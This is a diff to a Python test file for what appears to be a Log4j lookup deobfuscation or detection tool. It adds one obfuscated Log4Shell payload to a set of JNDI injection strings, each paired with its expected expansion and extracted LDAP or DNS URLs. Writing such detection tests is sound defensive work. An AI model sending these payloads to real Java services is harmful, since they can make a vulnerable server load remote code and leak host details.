@@ -136,6 +136,7 @@ def test_layers_reach_what_is_wrapped_three_times() -> None:
         (b"${jndi:dns:h} ${jndi:DNS://h} ${jndi:file:///x}", b"jndi:dns://h  jndi:dns://h  ", ("dns://h",)),
         (b"${date:'j'}${sys:user.home}$${", b"j$${", ()),
         (b"${jndi:ldap://${hostName}.h/${java:os}}", b"jndi:ldap://h/ ", ("ldap://h/",)),
+        ("${jnd${upper:\u0131}:ldap://h/x}".encode(), b"jndi:ldap://h/x ", ("ldap://h/x",)),
         (b"no lookups", b"no lookups", ()),
     ],
 )  # fmt: skip
